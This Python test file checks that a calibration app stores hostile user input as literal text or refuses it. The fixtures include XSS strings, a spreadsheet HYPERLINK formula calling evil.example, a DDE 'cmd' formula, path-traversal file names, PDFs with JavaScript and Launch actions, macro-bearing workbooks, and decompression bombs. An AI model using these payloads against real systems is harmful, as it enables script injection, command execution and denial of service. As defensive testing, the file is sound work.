"""Hostile input through every text field: stored and shown as text, or refused per field.

The corpus (very long text, right-to-left text and the RTL override, emoji, NUL bytes, HTML
and <script>, spreadsheet formulas, mojibake) goes through the service layer for proposal
fields, comments, the HRBP note, the counter reason, attachment names, upload files and
account display names; AppTest then checks the pages show it as literal text. The real
browser check (an `<img onerror>` in a justification never runs) is
tests/browser/test_user_text_browser.py.
"""

from __future__ import annotations

import ast
import re

import pandas as pd
import pytest

from calibration import exports
from calibration.accounts import auth
from calibration.data import importer
from calibration.demo import workshop as demo
from calibration.negotiation import service as neg
from calibration.store import connect
from tests.apptest_helpers import login, scoped
from tests.factories import ROOT, snapshot
from tests.nego_fixtures import ANALYST, EXEC, GOOD, HRBP, LEAD_EAST, make_run
from ui.text import plain

SCRIPT = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(1)>"
CORPUS: dict[str, str] = {
    "script": f"{SCRIPT} {IMG} and then some text",
    "html": "<b>bold</b> <a href='javascript:alert(1)'>link</a> &amp; &lt;",
    "markdown": "[click me](javascript:alert(1)) **bold** `code` # heading",
    "rtl": "هذا الهدف غير واقعي \u202egnp.exe \u200f עברית",
    "emoji": "Growth 🚀📈 👩🏽‍💼 flags 🇨🇳 and ZWJ families 👨‍👩‍👧",
    "nul": "before\x00after, a NUL byte in the middle",
    "formula": '=HYPERLINK("http://evil.example/?x="&A1,"click for details")',
    "formula_plus": "+cmd|' /C calc'!A0 and @SUM(1,2) -2+3",
    "mojibake": "ÖÐÎÄ Ã¤Ã¶Ã¼ â€œquotedâ€ (GBK/UTF-8 read as Latin-1)",
    "cjk": "搜索热度同比下降 12%,两家大客户预算推迟到下半年。",
}
LONG = "长" * 50_000 + "x" * 50_000  # 100k characters, beyond the 5,000 limit


def stored(text: str) -> str:
    """What the service keeps of a text: everything but NUL bytes."""
    return text.replace("\x00", "")


@pytest.fixture
def cycle(cur) -> int:
    """An open cycle over east, south, north (hand-made run)."""
    cid = neg.create_cycle(cur, EXEC, "Q1", "new_customers", "2026Q1", 600)
    neg.publish_run(cur, ANALYST, cid, make_run(1))
    neg.open_cycle(cur, EXEC, cid)
    return cid


def _row(cur, cid: int, region: str = "east") -> dict:
    state = neg.cycle_state(cur, cid)
    return state[state["region"] == region].iloc[0].to_dict()


# --------------------------------------------------------------------- service: proposals


@pytest.mark.parametrize("kind", sorted(CORPUS))
def test_proposal_fields_store_hostile_text_verbatim(cur, cycle, kind: str) -> None:
    text = CORPUS[kind]
    neg.propose(
        cur,
        LEAD_EAST,
        cycle,
        "east",
        150,
        justification=text,
        support=text,
        risk=text,
        confidence="low",
        expected_last_event=None,
    )
    row = _row(cur, cycle)
    for field in ("justification", "support", "risk"):
        assert row[field] == stored(text)
    assert neg.verify_chain(cur).ok


@pytest.mark.parametrize("field", ["justification", "support", "risk"])
def test_proposal_field_of_100k_chars_refused_by_name(cur, cycle, field: str) -> None:
    with pytest.raises(neg.ValidationError) as err:
        neg.propose(
            cur, LEAD_EAST, cycle, "east", 200, **{**GOOD, field: LONG}, expected_last_event=None
        )
    assert err.value.errors == {field: "nego.err_too_long"}
    assert _row(cur, cycle)["status"] == "none"  # nothing stored


def test_nul_only_justification_is_refused_not_stored(cur, cycle) -> None:
    with pytest.raises(neg.ValidationError) as err:
        neg.propose(
            cur,
            LEAD_EAST,
            cycle,
            "east",
            200,
            **{**GOOD, "justification": "\x00" * 40},
            expected_last_event=None,
        )
    assert err.value.errors == {"justification": "nego.err_justification"}


# --------------------------------------------------------------------- service: the others


@pytest.mark.parametrize("kind", sorted(CORPUS))
def test_comment_review_note_and_counter_reason(cur, cycle, kind: str) -> None:
    text = CORPUS[kind]
    neg.add_comment(cur, LEAD_EAST, cycle, "east", text)
    neg.propose(cur, LEAD_EAST, cycle, "east", 100, **GOOD, expected_last_event=None)
    last = int(_row(cur, cycle)["last_event_id"])
    neg.resolve_review(cur, HRBP, cycle, "east", "coaching", text, expected_last_event=last)
    last = int(_row(cur, cycle)["last_event_id"])
    neg.respond(
        cur,
        EXEC,
        cycle,
        "east",
        "counter",
        expected_last_event=last,
        counter_value=180,
        reason=text,
    )
    row = _row(cur, cycle)
    assert row["review_note"] == stored(text)
    assert row["counter_reason"] == stored(text)
    assert neg.thread(cur, EXEC, cycle, "east")["text"].tolist() == [stored(text)]
    # The decision log export keeps formula-looking cells inert for spreadsheets.
    csv = neg.export_log(cur, EXEC, cycle, "csv").decode("utf-8-sig")
    if text.startswith(("=", "+")):
        assert "'" + text[:10] in csv


@pytest.mark.parametrize("where", ["comment", "note", "reason"])
def test_other_fields_of_100k_chars_refused_by_name(cur, cycle, where: str) -> None:
    if where == "comment":
        with pytest.raises(neg.ValidationError) as err:
            neg.add_comment(cur, LEAD_EAST, cycle, "east", LONG)
        assert err.value.errors == {"text": "nego.err_too_long"}
        return
    neg.propose(cur, LEAD_EAST, cycle, "east", 100, **GOOD, expected_last_event=None)
    last = int(_row(cur, cycle)["last_event_id"])
    with pytest.raises(neg.ValidationError) as err:
        if where == "note":
            neg.resolve_review(cur, HRBP, cycle, "east", "coaching", LONG, expected_last_event=last)
        else:
            neg.respond(
                cur,
                EXEC,
                cycle,
                "east",
                "counter",
                expected_last_event=last,
                counter_value=180,
                reason=LONG,
            )
    assert err.value.errors == {where: "nego.err_too_long"}
    assert _row(cur, cycle)["last_event_id"] == last  # nothing appended


HOSTILE_NAMES = {
    "traversal": "../../etc/passwd.csv",
    "windows": "C:\\Windows\\system32\\evil.csv",
    "script": f"{SCRIPT}.csv",
    "rtl_override": "invoice\u202efdp.csv",
    "nul": "evil\x00.csv",
    "emoji": "业绩 🚀 report.csv",
    "formula": "=HYPERLINK(1).csv",
    "long": "n" * 100_000 + ".csv",
}


@pytest.mark.parametrize("kind", sorted(HOSTILE_NAMES))
def test_attachment_names_are_made_safe(cur, cycle, kind: str) -> None:
    data = f"region,note\neast,{SCRIPT}\nsouth,=1+1\n".encode()
    att = neg.add_attachment(
        cur, LEAD_EAST, cycle, "east", HOSTILE_NAMES[kind], data, note=CORPUS["script"]
    )
    got = neg.get_attachment(cur, LEAD_EAST, att)
    name = got["file_name"]
    assert got["data"] == data  # the evidence is kept byte for byte
    assert name.endswith(".csv") and len(name) <= 120
    assert not re.search(r"[/\\<>\x00-\x1f\u202a-\u202e\u2066-\u2069]", name), name
    assert not name.startswith(".")


@pytest.mark.parametrize(
    ("name", "data", "key"),
    [
        ("utf16.csv", "region\neast\n".encode("utf-16"), "nego.err_file_content"),
        ("nul.csv", b"region\x00east", "nego.err_file_content"),
        ("fake.pdf", b"<html><script>alert(1)</script></html>", "nego.err_file_content"),
        ("page.html", b"<script>alert(1)</script>", "nego.err_file_type"),
        ("empty.csv", b"", "nego.err_file_empty"),
        # Leading dots are stripped (no hidden files), which leaves no extension.
        ("....csv", b"region\neast\n", "nego.err_file_type"),
    ],
)
def test_attachment_wrong_content_refused_by_field(cur, cycle, name, data, key) -> None:
    with pytest.raises(neg.ValidationError) as err:
        neg.add_attachment(cur, LEAD_EAST, cycle, "east", name, data)
    assert err.value.errors == {"file": key}


# --------------------------------------------------------------------- service: uploads


def test_upload_stores_hostile_cells_as_text_and_exports_them_inert(cur) -> None:
    frame = pd.DataFrame(
        {
            "region": ["east", "south", "north", "west", "mid"],
            "name": [SCRIPT, CORPUS["formula"], CORPUS["rtl"], CORPUS["emoji"], "x" * 120],
        }
    )
    result = importer.import_bytes(
        cur, auth.SYSTEM, "regions", f"{SCRIPT}.csv", frame.to_csv(index=False).encode("utf-8")
    )
    assert result.rows == 5
    names = dict(cur.execute("SELECT region, name_en FROM regions").fetchall())
    assert names["east"] == SCRIPT and names["south"] == CORPUS["formula"]
    assert len(names["mid"]) == 120
    out = exports.csv_bytes(pd.DataFrame({"name": [names["south"]]})).decode("utf-8-sig")
    assert "'=HYPERLINK" in out


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("utf16.csv", "region,period,metric,value\neast,2025Q1,m,1\n".encode("utf-16")),
        ("nul.csv", b"region,period,metric,value\neast,2025Q1,m,1\x00\n"),
        ("binary.csv", bytes(range(256)) * 8),
        ("fake.xlsx", b"PK\x03\x04 this is not a workbook"),
        ("formula.csv", b"region,period,metric,value\neast,2025Q1,m,=HYPERLINK(1)\n"),
        ("script.csv", b"region,period,metric,value\n<script>,2025Q1,m,<script>\n"),
    ],
)
def test_upload_bad_files_refused_with_a_located_reason(cur, name: str, data: bytes) -> None:
    with pytest.raises(importer.ImportRejected) as err:
        importer.import_bytes(cur, auth.SYSTEM, "history", name, data)
    assert err.value.problems and all(p.file == name for p in err.value.problems)
    assert all(p.reason for p in err.value.problems)
    assert cur.execute("SELECT count(*) FROM history").fetchall() == [(0,)]


def test_upload_in_gbk_is_read_as_chinese(cur) -> None:
    data = "region,name\neast,华东 <script>\n".encode("gbk")
    importer.import_bytes(cur, auth.SYSTEM, "regions", "gbk.csv", data)
    # A Chinese name is the Chinese display name (README); the tag stays text.
    assert cur.execute("SELECT name_zh FROM regions").fetchall() == [("华东 <script>",)]


# --------------------------------------------------------------------- service: bombs

HISTORY = b"region,period,metric,value\neast,2025Q1,m,1\n"


def _bomb_cases() -> dict[str, tuple[bytes, str]]:
    """name -> (file bytes, a fragment the refusal must contain)."""
    from tests import bomb_files as b

    random_text = "".join(chr(97 + (i * 7919) % 26) for i in range(20_000))
    long_cell = pd.DataFrame(
        {"region": [random_text], "period": ["2025Q1"], "metric": ["m"], "value": [1]}
    )
    return {
        "rows.xlsx": (b.xlsx_row_bomb(), "unpacks to more than 500 MB"),
        "cell.xlsx": (b.xlsx_huge_cell(), "unpacks to more than 500 MB"),
        "lying.xlsx": (b.xlsx_lying_bomb(), "more than its header says"),
        # Two cells far apart make a parser allocate the whole rectangle between them.
        "dense.xlsx": (
            b.xlsx_sheet(b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'),
            "16,384 columns; at most 200",
        ),
        "wide.xlsx": (
            b.xlsx_sheet(b'<row r="2"><c r="KZ2"><v>1</v></c></row>'),
            "at most 200 are accepted",
        ),
        "longcell.xlsx": (exports.xlsx_bytes(long_cell), "longer than 10,000 characters"),
        "wide.csv": (b.wide_csv(), "100,004 columns; at most 200"),
        "cell.csv": (b.huge_cell_csv(), "longer than 10,000 characters"),
        "cell_small.csv": (
            HISTORY + b"east,2025Q2,m," + b"1" * 10_001 + b"\n",
            "longer than 10,000 characters",
        ),
    }


@pytest.fixture(scope="module")
def bombs() -> dict[str, tuple[bytes, str]]:
    """The hostile files, built once (the gigabyte bombs take a second each)."""
    return _bomb_cases()


@pytest.mark.parametrize(
    "name",
    [
        "rows.xlsx",
        "cell.xlsx",
        "lying.xlsx",
        "dense.xlsx",
        "wide.xlsx",
        "longcell.xlsx",
        "wide.csv",
        "cell.csv",
        "cell_small.csv",
    ],
)
def test_bombs_refused_before_parsing_and_change_nothing(cur, bombs, name: str) -> None:
    from calibration.data import service as data_service

    importer.import_bytes(cur, auth.SYSTEM, "history", "ok.csv", HISTORY)
    before = snapshot(cur)
    data, fragment = bombs[name]
    with pytest.raises(importer.ImportRejected) as err:
        importer.import_bytes(cur, auth.SYSTEM, "history", name, data)
    assert fragment in err.value.report()
    assert snapshot(cur) == before
    # The Data page's preview goes through the same checks.
    with pytest.raises(importer.ImportRejected):
        data_service.preview(name, data, "history")


def test_limits_follow_the_environment(cur, monkeypatch) -> None:
    monkeypatch.setenv("CALIBRATE_MAX_CELL_CHARS", "3")
    with pytest.raises(importer.ImportRejected, match="longer than 3 characters"):
        importer.import_bytes(
            cur, auth.SYSTEM, "history", "f.csv", HISTORY.replace(b"east", b"eastern")
        )
    monkeypatch.setenv("CALIBRATE_MAX_CELL_CHARS", "100")
    monkeypatch.setenv("CALIBRATE_MAX_ROWS", "1")
    with pytest.raises(importer.ImportRejected, match="more than 1 rows"):
        importer.import_bytes(cur, auth.SYSTEM, "history", "f.csv", HISTORY + b"east,2025Q2,m,2\n")
    # Rows counted in the sheet XML too, with or without a namespace prefix on the tags.
    from tests.bomb_files import xlsx_sheet

    for rows in (
        b"<row><c><v>1</v></c></row>" * 3,
        b'<x:row r="9"><x:c><x:v>1</x:v></x:c></x:row>',
    ):
        with pytest.raises(importer.ImportRejected, match="more than 1 rows"):
            importer.check_xlsx("f.xlsx", xlsx_sheet(rows))


# --------------------------------------------------------------------- service: encodings


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("latin1.csv", "region,name\nzurich,Zürich\nkoln,Köln Süd\n".encode("latin-1")),
        ("cp1252.csv", "region,name\nparis,Île-de-France — Nord\n".encode("cp1252")),
        ("sjis.csv", "region,name\ntokyo,東京本社\nosaka,大阪支店\n".encode("shift_jis")),
    ],
)
def test_wrong_encodings_refused_naming_the_accepted_ones(cur, name: str, data: bytes) -> None:
    with pytest.raises(importer.ImportRejected) as err:
        importer.import_bytes(cur, auth.SYSTEM, "regions", name, data)
    assert "UTF-8, UTF-8 with BOM, or GBK/GB18030" in err.value.report()
    assert cur.execute("SELECT count(*) FROM regions").fetchall() == [(0,)]


def test_genuine_gbk_with_rarer_characters_still_passes(cur) -> None:
    text = "区域,名称\nne,东北大区(沈阳、哈尔滨)\nsw,西南大区(成都、重庆、昆明)\nnw,西北 乌鲁木齐\n"
    importer.import_bytes(cur, auth.SYSTEM, "regions", "gbk.csv", text.encode("gbk"))
    names = dict(cur.execute("SELECT region, name_zh FROM regions").fetchall())
    assert names["sw"] == "西南大区(成都、重庆、昆明)"


# --------------------------------------------------------------------- service: active content

_PDF_HEAD = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R "
_PDF_TAIL = b">>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"


def _flate_object(body: bytes) -> bytes:
    import zlib

    packed = zlib.compress(body)
    return (
        b"3 0 obj\n<< /Type /ObjStm /Filter /FlateDecode /Length %d >>\nstream\n" % len(packed)
        + packed
        + b"\nendstream\nendobj\n"
    )


def _xlsx_with(parts: dict[str, bytes], content_types: bytes | None = None) -> bytes:
    import io
    import zipfile

    from tests.bomb_files import small_xlsx

    src = zipfile.ZipFile(io.BytesIO(small_xlsx()))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename == "[Content_Types].xml" and content_types:
                data = data.replace(b"</Types>", content_types + b"</Types>")
            dst.writestr(info.filename, data)
        for name, data in parts.items():
            dst.writestr(name, data)
    return buf.getvalue()


ACTIVE = {
    "javascript.pdf": _PDF_HEAD + b"/Names << /JavaScript 4 0 R >> " + _PDF_TAIL,
    "openaction.pdf": _PDF_HEAD
    + b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >> "
    + _PDF_TAIL,
    "launch.pdf": _PDF_HEAD
    + b"/OpenAction 5 0 R "
    + _PDF_TAIL
    + b"5 0 obj << /S /Launch /F (cmd.exe) >> endobj\n",
    "escaped.pdf": _PDF_HEAD + b"/AA << /O << /S /J#61vaScript /J#53 (x) >> >> " + _PDF_TAIL,
    "html.pdf": _PDF_HEAD + _PDF_TAIL + b"<html><script>alert(1)</script></html>\n",
    "embedded.pdf": _PDF_HEAD + b"/Names << /EmbeddedFiles 6 0 R >> " + _PDF_TAIL,
    "hidden.pdf": _PDF_HEAD + _PDF_TAIL + _flate_object(b"<< /S /JavaScript /JS (x) >>"),
    "macro.xlsx": _xlsx_with({"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"}),
    "macrotype.xlsx": _xlsx_with(
        {},
        b'<Override PartName="/xl/workbook.xml" ContentType="'
        b'application/vnd.ms-excel.sheet.macroEnabled.main+xml"/>',
    ),
    "activex.xlsx": _xlsx_with(
        {"xl/activeX/activeX1.xml": b"<ax/>", "xl/activeX/activeX1.bin": b"\xd0\xcf"}
    ),
    "ole.xlsx": _xlsx_with({"xl/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}),
}


@pytest.mark.parametrize("name", sorted(ACTIVE))
def test_attachments_with_active_content_refused(cur, cycle, name: str) -> None:
    with pytest.raises(neg.ValidationError) as err:
        neg.add_attachment(cur, LEAD_EAST, cycle, "east", name, ACTIVE[name])
    assert err.value.errors == {"file": "nego.err_file_active"}
    assert neg.thread(cur, LEAD_EAST, cycle, "east").empty


def test_attachment_xlsx_bomb_refused(cur, cycle) -> None:
    from tests.bomb_files import xlsx_row_bomb

    with pytest.raises(neg.ValidationError) as err:
        neg.add_attachment(cur, LEAD_EAST, cycle, "east", "rows.xlsx", xlsx_row_bomb())
    assert err.value.errors == {"file": "nego.err_file_active"}


def test_plain_pdf_and_xlsx_attachments_still_accepted(cur, cycle) -> None:
    from fpdf import FPDF

    from tests.bomb_files import small_xlsx

    pdf = FPDF()
    pdf.add_page()
    pdf.set_font("helvetica", size=12)
    pdf.cell(text="Pipeline review: two renewals at risk")
    for name, data in (("review.pdf", bytes(pdf.output())), ("plan.xlsx", small_xlsx())):
        att = neg.add_attachment(cur, LEAD_EAST, cycle, "east", name, data)
        assert neg.get_attachment(cur, LEAD_EAST, att)["data"] == data


@pytest.mark.parametrize("kind", sorted(CORPUS))
def test_display_names_stored_as_given(cur, kind: str) -> None:
    user = auth.add_user(
        cur, auth.SYSTEM, f"lead_{kind}", "lead", "long-enough-pw", ["east"], CORPUS[kind]
    )
    assert auth.load_user(cur, user.username).display_name == CORPUS[kind]


# --------------------------------------------------------------------- pages


# Builders of HTML from server-made values only, each escaping what it puts in; named here
# one by one. handoff_html: the auto-submitted form to the session cookie routes (issue 16);
# upload_css: the file field's translated button label as an escaped CSS string (issue 15).
HTML_BUILDERS = {"handoff_html", "upload_css"}


def _literal(node: ast.AST, fixed: frozenset[str] = frozenset()) -> bool:
    """A string fixed in the source (constants, joined or concatenated, or a module-level
    name bound once to such a string: `fixed`), never user data."""
    if isinstance(node, ast.Name):
        return node.id in fixed
    if isinstance(node, ast.Constant):
        return isinstance(node.value, str)
    if isinstance(node, ast.Call) and isinstance(node.func, ast.Name | ast.Attribute):
        name = node.func.id if isinstance(node.func, ast.Name) else node.func.attr
        return name in HTML_BUILDERS
    if isinstance(node, ast.BinOp) and isinstance(node.op, ast.Add):
        return _literal(node.left, fixed) and _literal(node.right, fixed)
    return False


def _fixed_names(tree: ast.Module) -> frozenset[str]:
    """Module-level names assigned exactly once, to a literal string."""
    bound: dict[str, int] = {}
    literal: set[str] = set()
    for node in ast.walk(tree):
        for target in getattr(node, "targets", []) or [getattr(node, "target", None)]:
            if isinstance(target, ast.Name):
                bound[target.id] = bound.get(target.id, 0) + 1
    for node in tree.body:
        if isinstance(node, ast.Assign) and len(node.targets) == 1:
            target = node.targets[0]
            if isinstance(target, ast.Name) and _literal(node.value):
                literal.add(target.id)
    return frozenset(n for n in literal if bound.get(n) == 1)


def test_no_page_renders_user_text_as_html() -> None:
    """HTML is rendered only from literals: st.html(...) and unsafe_allow_html=True calls in
    pages, the router and ui/ take fixed strings (e.g. the board's presentation CSS)."""
    files = [
        ROOT / "app.py",
        *sorted((ROOT / "pages").glob("*.py")),
        *sorted((ROOT / "ui").glob("*.py")),
    ]
    for path in files:
        source = path.read_text(encoding="utf-8")
        assert "components.v1" not in source and "components.html" not in source, path.name
        tree = ast.parse(source)
        fixed = _fixed_names(tree)
        for node in ast.walk(tree):
            if not isinstance(node, ast.Call) or not isinstance(node.func, ast.Attribute):
                continue
            unsafe = any(
                k.arg == "unsafe_allow_html"
                and not (isinstance(k.value, ast.Constant) and k.value.value is False)
                for k in node.keywords
            )
            if node.func.attr == "html" or unsafe:
                assert node.args and all(_literal(a, fixed) for a in node.args), (
                    f"{path.name}:{node.lineno} renders non-literal HTML"
                )


@pytest.fixture
def hostile_app(app_env):
    """The app's database: demo accounts, a lead with a hostile display name, an open cycle
    where East's flagged proposal, comment and HR-visible fields carry the corpus."""
    con = connect(app_env)
    cur = con.cursor()
    # app_env is already a copy of the seeded demo (seeding it again cost 10-30 s).
    auth.add_user(
        cur,
        auth.SYSTEM,
        "lead_evil",
        "lead",
        demo.DEMO_PASSWORD,
        ["south"],
        f"Mallory {SCRIPT} {CORPUS['markdown']} \u202eRTL",
    )
    cid = neg.create_cycle(cur, EXEC, f"Cycle {SCRIPT}", "new_customers", "2026Q1", 1200)
    neg.publish_run(cur, ANALYST, cid, make_run(1, {"east": 220.0, "south": 200.0}))
    neg.open_cycle(cur, EXEC, cid)
    lead = auth.load_user(cur, "lead_east")
    neg.propose(
        cur,
        lead,
        cid,
        "east",
        100,
        justification=CORPUS["script"],
        support=CORPUS["formula"],
        risk=CORPUS["rtl"],
        confidence="low",
        expected_last_event=None,
    )
    neg.add_comment(cur, lead, cid, "east", CORPUS["html"])
    con.close()
    return app_env, cid


def _texts(at) -> list[str]:
    return [e.value for e in at.text]


def test_review_page_shows_hostile_fields_as_literal_text(hostile_app) -> None:
    at = login("hrbp")
    at.switch_page("pages/review.py")
    at.run()
    assert not at.exception, at.exception
    texts = _texts(at)
    # st.text renders its value verbatim (no Markdown, no HTML): the tags are visible text.
    assert CORPUS["script"] in texts
    assert CORPUS["formula"] in texts
    assert CORPUS["rtl"] in texts
    assert CORPUS["html"] in texts  # the comment, in the thread expander


def test_my_region_shows_comment_as_text_and_refuses_100k(hostile_app) -> None:
    at = login("lead_east")
    at.switch_page("pages/my_region.py")
    at.run()
    assert not at.exception, at.exception
    assert CORPUS["html"] in _texts(at)
    # The widgets cap typing at the service's limit; a longer value never reaches it.
    for key in ("nego_just", "nego_support", "nego_risk", "nego_comment"):
        assert at.text_area(key=scoped(at, key)).max_chars == neg.MAX_TEXT
    at.text_area(key=scoped(at, "nego_just")).input(LONG)
    next(b for b in at.button if b.label == "Submit proposal").click()
    at.run()
    assert not at.exception, at.exception
    # The over-long value never reaches the service (a browser stops typing at the limit).
    assert len(at.text_area(key=scoped(at, "nego_just")).value or "") <= neg.MAX_TEXT


def test_sidebar_shows_hostile_display_name_as_text(hostile_app) -> None:
    at = login("lead_evil")
    assert not at.exception, at.exception
    captions = [c.value for c in at.sidebar.caption]
    # The display name enters our Markdown caption escaped: tags and links stay text.
    name = f"Mallory {SCRIPT} {CORPUS['markdown']} \u202eRTL"
    assert any(plain(name) in c for c in captions), captions


# --------------------------------------------------------------------- process: bombs

_CLI_WRAPPER = """
import resource, sys
from calibration.cli import main

def status(field):
    for line in open('/proc/self/status'):
        if line.startswith(field + ':'):
            return int(line.split()[1]) * 1024

good, db, *bombs = sys.argv[1:]
print('good', main(['import', 'history', good, '--db', db]), flush=True)
print('baseline', status('VmHWM'), flush=True)
# A ceiling so a regression aborts this child, not the shared machine (calamine allocates GBs).
cap = status('VmSize') + 1_500_000_000
resource.setrlimit(resource.RLIMIT_AS, (cap, cap))
for path in bombs:
    print('bomb', path, main(['import', 'history', path, '--db', db]), flush=True)
print('peak', status('VmHWM'), flush=True)
"""


def test_cli_process_survives_bombs_within_a_memory_bound(tmp_path) -> None:
    import subprocess
    import sys

    from tests import bomb_files as b

    good = tmp_path / "good.csv"
    good.write_bytes(HISTORY)
    files = [b.xlsx_row_bomb(tmp_path / "rows.xlsx"), b.xlsx_huge_cell(tmp_path / "cell.xlsx")]
    for name, data in (
        ("lying.xlsx", b.xlsx_lying_bomb()),
        ("wide.csv", b.wide_csv()),
        ("cell.csv", b.huge_cell_csv()),
        ("dense.xlsx", b.xlsx_sheet(b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')),
    ):
        (tmp_path / name).write_bytes(data)
        files.append(tmp_path / name)
    proc = subprocess.run(
        [
            sys.executable,
            "-c",
            _CLI_WRAPPER,
            str(good),
            str(tmp_path / "d.duckdb"),
            *map(str, files),
        ],
        capture_output=True,
        text=True,
        cwd=ROOT,
        timeout=600,
    )
    out = proc.stdout.splitlines()
    assert proc.returncode == 0, proc.stderr[-3000:]
    assert "good 0" in out
    # Every bomb refused with exit code 2 and a message naming the limit, none crashed.
    assert [line.rsplit(" ", 1)[1] for line in out if line.startswith("bomb")] == ["2"] * len(files)
    for fragment in (
        "unpacks to more than 500 MB",
        "more than its header says",
        "100,004 columns",
        "longer than 10,000 characters",
        "16,384 columns",
    ):
        assert fragment in proc.stderr
    values = dict(line.split() for line in out if line.split()[0] in ("baseline", "peak"))
    assert int(values["peak"]) < int(values["baseline"]) + 300 * 1024 * 1024
